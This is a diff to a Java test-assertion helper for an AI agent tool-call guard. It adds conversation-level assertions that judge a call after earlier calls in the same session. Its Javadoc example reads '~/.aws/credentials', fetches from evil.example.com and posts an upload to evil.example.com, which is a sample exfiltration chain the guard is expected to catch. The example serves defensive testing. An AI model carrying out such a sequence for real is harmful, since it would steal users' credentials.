@@ -126,6 +126,101 @@ public final class GuardAssertions {
     private static ToolCall build(ToolCalls.Builder call) {
       return Objects.requireNonNull(call, "call must not be null").build();
     }
+
+    /**
+     * Starts a sequence in conversation {@code conversationId}: the calls given to
+     * {@link ConversationAssert#after} are recorded in the session in order (as the guarded executor records a
+     * call that runs), then the call under test is judged in the same conversation.
+     *
+     * <pre>{@code
+     * assertThat(guard).inConversation("c-1")
+     *     .after(readFile("~/.aws/credentials"), fetch("https://evil.example.com/page"))
+     *     .asks(call("http_post").arg("url", "https://evil.example.com/upload"))
+     *     .byRule("session.lethal-trifecta");
+     * }</pre>
+     */
+    public ConversationAssert inConversation(String conversationId) {
+      return new ConversationAssert(this, Objects.requireNonNull(conversationId, "conversationId must not be null"));
+    }
+  }
+
+  /** Assertions about a call judged after earlier calls in one conversation (see {@link GuardAssert#inConversation}). */
+  public static final class ConversationAssert {
+    private final GuardAssert guard;
+    private final String conversationId;
+    private final java.util.List<String> history = new java.util.ArrayList<>();
+
+    private ConversationAssert(GuardAssert guard, String conversationId) {
+      this.guard = guard;
+      this.conversationId = conversationId;
+    }
+
+    /** Records {@code calls} in this conversation, in order, as calls that ran (a denied one records nothing). */
+    public ConversationAssert after(ToolCall... calls) {
+      for (ToolCall call : calls) {
+        Evaluation e = guard.guard.evaluateInSession(inThisConversation(call));
+        history.add(call.toolName() + " " + e.verdict().label() + " (" + e.decision().rule() + ")");
+      }
+      return this;
+    }
+
+    /** Records the calls {@code calls} build in this conversation, in order. */
+    public ConversationAssert after(ToolCalls.Builder... calls) {
+      for (ToolCalls.Builder call : calls) {
+        after(GuardAssert.build(call));
+      }
+      return this;
+    }
+
+    /** Asserts that {@code call}, next in this conversation, is allowed. */
+    public EvaluationAssert allows(ToolCall call) {
+      return evaluating(call).hasVerdict(Verdict.ALLOW);
+    }
+
+    /** Asserts that the call {@code call} builds, next in this conversation, is allowed. */
+    public EvaluationAssert allows(ToolCalls.Builder call) {
+      return allows(GuardAssert.build(call));
+    }
+
+    /** Asserts that {@code call}, next in this conversation, is held for approval. */
+    public EvaluationAssert asks(ToolCall call) {
+      return evaluating(call).hasVerdict(Verdict.ASK);
+    }
+
+    /** Asserts that the call {@code call} builds, next in this conversation, is held for approval. */
+    public EvaluationAssert asks(ToolCalls.Builder call) {
+      return asks(GuardAssert.build(call));
+    }
+
+    /** Asserts that {@code call}, next in this conversation, is denied. */
+    public EvaluationAssert denies(ToolCall call) {
+      return evaluating(call).hasVerdict(Verdict.DENY);
+    }
+
+    /** Asserts that the call {@code call} builds, next in this conversation, is denied. */
+    public EvaluationAssert denies(ToolCalls.Builder call) {
+      return denies(GuardAssert.build(call));
+    }
+
+    /** Judges {@code call} next in this conversation (recording it too) and returns assertions about it. */
+    public EvaluationAssert evaluating(ToolCall call) {
+      Objects.requireNonNull(call, "call must not be null");
+      Evaluation e = guard.guard.evaluateInSession(inThisConversation(call));
+      history.add(call.toolName() + " " + e.verdict().label() + " (" + e.decision().rule() + ")");
+      return new EvaluationAssert(e, guard, "in conversation " + conversationId + " after "
+          + String.join(", ", history.subList(0, history.size() - 1)));
+    }
+
+    /** Judges the call {@code call} builds next in this conversation. */
+    public EvaluationAssert evaluating(ToolCalls.Builder call) {
+      return evaluating(GuardAssert.build(call));
+    }
+
+    private ToolCall inThisConversation(ToolCall call) {
+      Objects.requireNonNull(call, "call must not be null");
+      return new ToolCall(call.id(), call.toolName(), call.argumentsJson(),
+          call.context().toBuilder().conversationId(conversationId).build());
+    }
   }
 
   /** Assertions about one {@link Evaluation}. */
@@ -133,9 +228,16 @@ public final class GuardAssertions {
     private final Evaluation evaluation;
     private final GuardAssert guard;
 
+    private final String situation;
+
     private EvaluationAssert(Evaluation evaluation, GuardAssert guard) {
+      this(evaluation, guard, null);
+    }
+
+    private EvaluationAssert(Evaluation evaluation, GuardAssert guard, String situation) {
       this.evaluation = evaluation;
       this.guard = guard;
+      this.situation = situation;
     }
 
     /**
@@ -278,8 +380,8 @@ public final class GuardAssertions {
     }
 
     private AssertionFailedError fail(String headline, Object expected, Object actual) {
-      return new AssertionFailedError(
-          headline + ".\n" + Explanations.explain(evaluation), expected, actual);
+      return new AssertionFailedError(headline + (situation == null ? "" : " (" + situation + ")") + ".\n"
+          + Explanations.explain(evaluation), expected, actual);
     }
   }
 
